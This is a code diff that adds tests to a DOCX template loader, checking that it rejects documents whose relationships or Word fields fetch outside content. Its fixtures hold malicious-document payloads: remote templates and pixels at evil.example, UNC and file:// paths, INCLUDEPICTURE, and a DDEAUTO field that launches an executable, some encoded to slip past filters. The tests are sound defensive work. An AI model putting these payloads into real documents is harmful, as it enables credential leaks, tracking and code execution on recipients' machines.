@@ -126,6 +126,50 @@ it('fills in a field of a link’s target, encoded for an address', async () => 
   expect(partOf(keep(valuesOf), 'word/_rels/document.xml.rels')).toContain('?id=%7B0A1B%7D"');
 });
 
+/** A document with a relationship. @param rels the file of relationships that it is in */
+const withRelationship = (type: string, target: string, mode = 'External', rels = 'word/_rels/document.xml.rels') =>
+  makeDocx(paragraph('{client.name}'), {
+    [rels]: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+  });
+const withInstruction = (...texts: string[]) =>
+  makeDocx(
+    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r></w:p>`,
+  );
+
+it.each([
+  ['attachedTemplate', 'https://evil.example/t.dotm', 'External', 'word/_rels/settings.xml.rels'],
+  ['image', 'http://evil.example/pixel.png', 'External', 'word/_rels/header1.xml.rels'],
+  ['oleObject', 'file:///C:/secret.xlsx', 'external'],
+  ['subDocument', 'other.docx', '&#69;xternal'],
+  ['frame', 'https://evil.example/frame.htm'],
+  ['mailMergeSource', 'file:///C:/clients.mdb', ' External ', 'word/_rels/settings.xml.rels'],
+  ['hyperlink', '\\\\evil.example\\share\\x'],
+  ['hyperlink', 'file://evil.example/share/x'],
+  ['aFChunk', 'afchunk.htm', 'Internal'],
+])('refuses a file whose %s is %s, and names it', async (type, target, mode?, rels?) => {
+  const problem = texts.fetchesFromOutside(target);
+  await expect(open(withRelationship(type, target, mode, rels))).rejects.toThrow(problem);
+});
+
+it.each([
+  ['INCLUDEPICTURE "https://evil.example/x.png" \\d'],
+  ['INCLUDE', 'TEXT "x.docx"'],
+  [' DDEAUTO c:\\\\x.exe "/k"'],
+])('refuses a file with the field %s of Word', async (...instruction) => {
+  const problem = texts.fetchesFromOutside(instruction.join('').trim());
+  await expect(open(withInstruction(...instruction))).rejects.toThrow(problem);
+  const simple = `<w:p><w:fldSimple w:instr="${instruction.join('').replaceAll('"', '&quot;')}"/></w:p>`;
+  await expect(open(makeDocx(simple))).rejects.toThrow(problem);
+});
+
+it('takes links that a reader opens, and fields of Word that fetch nothing', async () => {
+  for (const target of ['https://example.com', 'mailto:a@example.com', 'tel:+911', '#place'])
+    expect((await open(withRelationship('hyperlink', target))).fields).toEqual(['client.name']);
+  await open(withRelationship('image', 'media/image1.png', 'Internal'));
+  for (const instruction of ['HYPERLINK "https://example.com"', 'PAGE', 'DATE \\@ "d MMMM"'])
+    await open(withInstruction(instruction));
+});
+
 /** Its header is larger than the limit, and says that it has one byte. */
 function makeBomb() {
   const size = 21 * 1024 * 1024;
